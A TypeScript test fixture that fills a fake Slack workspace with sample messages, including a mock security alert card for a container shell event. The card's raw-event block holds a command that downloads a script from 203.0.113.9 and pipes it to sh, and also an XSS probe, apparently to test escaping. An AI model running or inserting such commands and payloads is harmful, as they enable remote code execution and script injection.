import type { KnownBlock } from '@slack/types'
import { ana, type FakeWorkspace, section } from './fake-workspace.ts'

/** A card as Falconer might post it: everything a message can show. */
export const card: readonly KnownBlock[] = [
  { type: 'header', block_id: 'head', text: { type: 'plain_text', text: 'Terminal shell in container' } },
  {
    type: 'section',
    block_id: 'facts',
    text: {
      type: 'mrkdwn',
      text: '*Critical* on <https://example.test/node|node-1>, seen by <@U0ANA> in <#C0GENERAL>, told to <!subteam^S0SEC>',
      verbatim: true,
    },
    fields: [
      { type: 'mrkdwn', text: '*Workload*\npayments/api' },
      { type: 'mrkdwn', text: '*Since*\n<!date^1764000000^{date_short_pretty} at {time}|then>' },
    ],
  },
  {
    type: 'rich_text',
    block_id: 'raw',
    elements: [
      {
        type: 'rich_text_preformatted',
        elements: [{ type: 'text', text: 'bash -c "curl http://203.0.113.9/x | sh" <script>alert(1)</script>\n  uid=0' }],
      },
    ],
  },
  {
    type: 'actions',
    block_id: 'do',
    elements: [
      { type: 'button', action_id: 'ack', style: 'primary', text: { type: 'plain_text', text: 'Acknowledge' }, value: 'A1' },
      { type: 'button', action_id: 'suppress', text: { type: 'plain_text', text: 'Suppress…' }, value: 'A1' },
      { type: 'button', action_id: 'report', text: { type: 'plain_text', text: 'Report' }, value: 'A1' },
      {
        type: 'button',
        action_id: 'resolve',
        style: 'danger',
        text: { type: 'plain_text', text: 'Resolve' },
        value: 'A1',
        confirm: {
          title: { type: 'plain_text', text: 'Resolve this alert?' },
          text: { type: 'mrkdwn', text: 'A new event will open *another* one.' },
          confirm: { type: 'plain_text', text: 'Resolve' },
          deny: { type: 'plain_text', text: 'Keep' },
          style: 'danger',
        },
      },
      {
        type: 'overflow',
        action_id: 'more',
        options: [
          { text: { type: 'plain_text', text: 'Assign to me' }, value: 'assign' },
          { text: { type: 'plain_text', text: 'Show events' }, value: 'events' },
        ],
      },
    ],
  },
  {
    type: 'context',
    block_id: 'foot',
    elements: [{ type: 'mrkdwn', text: '42 events on 3 hosts · last <!date^1764000600^{time}|then> · `A1`' }],
  },
]

/** Ten messages that show what the page can do. */
export function fill(workspace: FakeWorkspace): void {
  workspace.post({ user: ana.id, botId: undefined, text: 'Good morning. *Bold*, _italic_, ~struck~, `code` and :wave: and 10:30:45' })
  workspace.post({ text: 'Hi <!here>', attachments: [{ color: '#E01E5A', fallback: 'x', blocks: [...card] }] })
  const parent = workspace.post({
    text: 'A parent with a thread',
    attachments: [{ color: 'warning', blocks: [section('> quoted\nand *not*')] }],
  })
  workspace.post({ threadTs: parent.ts, text: 'First reply' })
  workspace.post({ threadTs: parent.ts, user: ana.id, botId: undefined, text: 'Second reply' })
  workspace.post({
    text: 'table',
    blocks: [
      section('*Suppressions*'),
      ...['S1', 'S2'].map((id): KnownBlock => ({
        type: 'section',
        block_id: `lift-${id}`,
        text: { type: 'mrkdwn', text: `*${id}* Write below etc` },
        accessory: { type: 'button', action_id: 'lift', text: { type: 'plain_text', text: 'Lift' }, value: id },
      })),
      { type: 'divider' },
      {
        type: 'table',
        rows: [
          [
            { type: 'raw_text', text: 'Rule' },
            { type: 'raw_text', text: 'Events' },
          ],
          [
            { type: 'raw_text', text: '*Terminal* <b>shell</b>' },
            { type: 'raw_number', value: 42, text: '42' },
          ],
        ],
      },
      {
        type: 'actions',
        block_id: 'pick',
        elements: [
          {
            type: 'static_select',
            action_id: 'window',
            placeholder: { type: 'plain_text', text: 'Window' },
            options: [{ text: { type: 'plain_text', text: 'Last 24 h' }, value: '24h' }],
          },
          { type: 'users_select', action_id: 'who', placeholder: { type: 'plain_text', text: 'Assign' } },
        ],
      },
    ],
    files: [
      { id: 'F1', name: 'chart.png', title: 'Last 24 hours', bytes: pixel },
      { id: 'F2', name: 'page.html', title: 'events.json', bytes: Buffer.from('<b>') },
    ],
  })
  workspace.post({ onlyFor: ana.id, text: 'You may not suppress this: ask <!subteam^S0SEC>.' })
  workspace.post({ channel: 'C0GENERAL', text: 'Something new' })
}

/** One red pixel. */
const pixel = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8Dwn4EIABv7A/8fXw5qAAAAAElFTkSuQmCC', 'base64')
